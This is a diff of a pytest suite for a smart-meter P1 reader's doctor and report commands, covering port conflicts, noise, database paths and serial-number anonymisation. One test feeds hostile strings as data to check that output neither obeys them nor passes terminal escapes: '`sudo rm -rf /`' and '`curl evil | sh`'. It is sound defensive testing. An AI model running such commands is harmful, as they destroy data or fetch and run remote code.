@@ -16,13 +16,13 @@ from pathlib import Path
 
 import pytest
 import serial
-from conftest import EXAMPLE, Meter, Pull, simple, until, with_crc
+from conftest import EXAMPLE, PULL, Meter, Pull, simple, until, with_crc
 from test_fuzz import frames_of
 from test_meters import METERS, telegram
 from test_port import FarEnd
 from test_pull import telegram_now
 
-from slimmemeter import diagnosis, doctor, port
+from slimmemeter import diagnosis, doctor, faults, port
 from slimmemeter.report import anonymous
 from slimmemeter.settings import Settings
 from slimmemeter.telegram import Telegram
@@ -95,7 +95,7 @@ def test_the_one_adapter_is_used(
     cable = tmp_path / "usb-FTDI_P1"
     cable.symlink_to(meter(telegram_now(), pause_s=0.5).port)
     first, second, *_ = diagnosis.of_port(Settings({}, {}, ""))
-    assert first == ("ok", f"one serial adapter is plugged in: {cable}")
+    assert (first.state, first.sentence) == ("ok", f"one serial adapter is plugged in: {cable}")
     assert second.sentence.startswith("5 of 5 telegrams were right, at 115200-8N1")
 
 
@@ -129,6 +129,61 @@ def test_port_that_another_program_reads_too(meter: Meters, said: Said) -> None:
     os.close(theirs)
     assert f"WRONG {name} is also open in " in told
     assert f"(process {os.getpid()})" in told
+
+
+def test_own_pull_that_reads_is_waited_for(meter: Meters, said: Said) -> None:
+    """It is no other program, and the time that it takes isn't silence of the meter."""
+    name = meter(telegram_now(), pause_s=4).port
+    command = [*PULL, "--port", name, "--dry-run"]
+    with subprocess.Popen(command, stdout=subprocess.DEVNULL) as pulling:
+        until(lambda: any(str(pulling.pid) in holder for holder in faults.holders(name)))
+        told = plain(said("--port", name, "--timeout", 12))
+    assert "also open" not in told
+    assert "telegrams were right, at 115200-8N1" in told
+
+
+def test_text_from_outside_is_no_command(meter: Meters, said: Said, database: Path) -> None:
+    """What a meter or the last pull said is shown as text, without what a terminal would obey."""
+    database.with_name("last-pull").write_text(f"{int(time.time())} 4 `sudo rm -rf /` \x1b[31m\n")
+    noise = b"hello `curl evil | sh` world, login: \r\n"
+    told = said("--port", meter(noise).port, "--timeout", 2)
+    assert "\x1b" not in told
+    commands = [line.strip() for line in told.splitlines() if line.startswith(" " * 11)]
+    assert [command for command in commands if "rm" in command or "curl" in command] == []
+
+
+def test_noise_with_slashes_and_marks_is_no_telegram(meter: Meters, said: Said) -> None:
+    """Both settings of the line are tried."""
+    told = plain(said("--port", meter(b"/\xd1\xe2\x01\n!" * 50, pause_s=0.01).port, "--timeout", 2))
+    assert re.search(r"bytes at 115200-8N1 and \d+ bytes at 9600-7E1, and no telegram", told)
+
+
+def test_pieces_of_telegrams_are_told_as_such(meter: Meters, said: Said) -> None:
+    """Not as a console's text."""
+    told = plain(said("--port", meter(E350[:300], pause_s=0.1).port, "--timeout", 2))
+    assert "pieces of telegrams" in told
+
+
+def test_port_whose_owner_has_no_name(meter: Meters) -> None:
+    """In a container a device may be of a user who isn't there."""
+    if os.geteuid() != 0:
+        pytest.skip("only root can give a device away")
+    name = meter(E350).port
+    os.chown(name, 12345, 54321)
+    Path(name).chmod(0o600)
+    told = str(faults.why(name, PermissionError(13, "denied"), []))
+    assert "its owner is 12345, its group 54321 and its mode 600" in told
+
+
+@pytest.mark.parametrize("output", ["| head -1", ">/dev/full", ">&-"])
+def test_output_that_takes_nothing_is_no_bug(output: str, database: Path) -> None:
+    """Neither a closed pipe nor a full disk brings a traceback."""
+    doctor = f"{sys.executable} -I -m slimmemeter.cli doctor --port /dev/ttyNO --db {database}"
+    done = subprocess.run(
+        ["sh", "-c", f"{doctor} {output}"], capture_output=True, check=False, text=True, timeout=30
+    )
+    assert "Traceback" not in done.stderr
+    assert done.stderr.count("\n") <= 1
 
 
 def test_silent_port(meter: Meters, said: Said) -> None:
@@ -244,6 +299,9 @@ def test_database(pull: Pull, said: Said, database: Path) -> None:
     told = plain(said(*nowhere))
     assert f"ok {database} is sound: 0." in told
     assert "the newest reading is of 2017-01-08 16:11:07" in told
+    word = plain(said(*nowhere, "--db", database.parent))
+    assert f"{database.parent} is no file" in word
+    assert "there is no folder" in plain(said(*nowhere, "--db", database.parent / "no" / "x.db"))
     content = bytearray(database.read_bytes())
     content[4096:12288] = b"\xa5" * 8192
     database.write_bytes(content)
@@ -296,6 +354,37 @@ def stranger() -> Iterator[int]:
     server.server_close()
 
 
+@pytest.mark.parametrize(
+    "answer",
+    [
+        b"SSH-2.0-x\r\n",
+        b"HTTP/1.0 999999 x\r\n\r\n",
+        b"HTTP/1.0 200 OK\r\nContent-Length: 500\r\n\r\nshort",
+        b"HTTP/1.0 200 OK\r\n\r\n" + b"[" * 60000,
+        b"HTTP/1.0 200 OK\r\nX: " + b"x" * 100000 + b"\r\n\r\n",
+        b'HTTP/1.0 200 OK\r\n\r\n{"version": {"a": 1}}',
+        b"",
+    ],
+)
+def test_other_servers_at_the_address_of_the_pages(answer: bytes, said: Said) -> None:
+    """Whatever they say, it is told in a sentence."""
+    server = socket.create_server(("127.0.0.1", 0))
+
+    def serve() -> None:
+        try:
+            connection, _ = server.accept()
+        except OSError:
+            return
+        with connection:
+            connection.recv(1000)
+            connection.sendall(answer)
+
+    threading.Thread(target=serve, daemon=True).start()
+    told = plain(said("--port", "/dev/ttyNO", "--listen", f"127.0.0.1:{server.getsockname()[1]}"))
+    server.close()
+    assert re.search("another program answers at|the pages don't answer at", told)
+
+
 def test_pages(stranger: int, said: Said, pull: Pull, database: Path) -> None:
     """Nobody answers, another program does, and ours does."""
     nowhere = ("--port", "/dev/ttyNOTHERE")
@@ -336,7 +425,7 @@ def test_report_hides_what_it_does_not_understand(meter: Meters, said: Said) -> 
     lines = ("1-0:1.8.1(000001.000*kWh)", "9-9:9.9.9(123456789)(261123120000W)(1.5*kWh)")
     told = said("--report", "--port", meter(simple(*lines, meter="42" * 9)).port, code=0)
     assert "9-9:9.9.9(000000002)(261123120000W)(1.5*kWh)" in told
-    assert "0-0:96.1.1(" + "58" * 8 + "31)" in told
+    assert "0-0:96.1.1(" + "41" * 8 + "31)" in told
 
 
 @pytest.mark.parametrize("name", sorted(METERS))
@@ -356,7 +445,50 @@ def test_report_of_any_meter_says_the_same_but_who_it_is(name: str) -> None:
         assert after == before or re.match(rb"[01]-[0-9n]:(0\.0\.0|42\.0|96\.1\D|96\.13)|!", before)
 
 
+SERIAL = "E0031003001699515"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *(SERIAL, f"0-0:96.1.1[{SERIAL}]", f"{SERIAL}(1)", f"9-9:9.9.9({SERIAL}*x)"),
+        *(f"9-9:9.9.9(*{SERIAL})", f"0-0:17.0.0({SERIAL})", f"0-0:96.50.68({SERIAL})"),
+        *(f"0-1:24.2.1(261123120000W)({SERIAL})", f"1-0:99.97.0({SERIAL})", f"1-0:1.8.2{SERIAL}"),
+        *(f"0-0:96.1.1*255({SERIAL})", f"0-0:96.13.0({SERIAL.encode().hex()})"),
+    ],
+)
+def test_report_hides_a_serial_number_wherever_it_stands(line: str) -> None:
+    """As it is or in hexadecimal, in objects that are known or not, in a form of theirs or not."""
+    (frame,) = frames_of(simple("1-0:1.8.1(1.000*kWh)", line))
+    shown = anonymous(Telegram(frame)).upper()
+    assert SERIAL[1:].encode() not in shown
+    assert SERIAL.encode().hex().upper().encode() not in shown
+
+
+@pytest.mark.parametrize(
+    ("header", "shown"),
+    [
+        ("/XMX5LGBBFG1012345678", "/XMX5LGBBFG0000000000"),
+        (r"/ISk5\2MT382-1003", r"/ISk5\2MT382-1003"),
+        ("/ABC5 12-34-56-78-90", "/ABC5 00-00-00-00-00"),
+        ("/TST5 SN 0012 3456 7890", "/TST5 SN 0000 0000 0000"),
+    ],
+)
+def test_report_keeps_the_type_in_a_header_and_hides_its_number(header: str, shown: str) -> None:
+    """More digits than a type has are a number."""
+    (frame,) = frames_of(with_crc(header, "", "1-0:1.8.1(1.000*kWh)"))
+    assert anonymous(Telegram(frame)).decode().partition("\r\n")[0] == shown
+
+
+def test_report_of_a_damaged_telegram_names_nobody(meter: Meters, said: Said) -> None:
+    """The header with its number isn't told either."""
+    damaged = E350.replace(b"494", b"495")
+    told = said("--report", "--port", meter(damaged, pause_s=0.1).port, "--timeout", 2, code=4)
+    assert "1012345678" not in told
+    assert "no telegram was right" in told
+
+
 def test_report_without_a_telegram_says_so(meter: Meters, said: Said) -> None:
     """Nothing is printed but the reason."""
-    told = said("--report", "--port", meter(b"").port, "--timeout", 1, code=4)
-    assert told.startswith("slimmemeter: no telegram came")
+    told = said("--report", "--port", meter(b"").port, "--timeout", 1, code=3)
+    assert told.startswith("slimmemeter: nothing was heard")
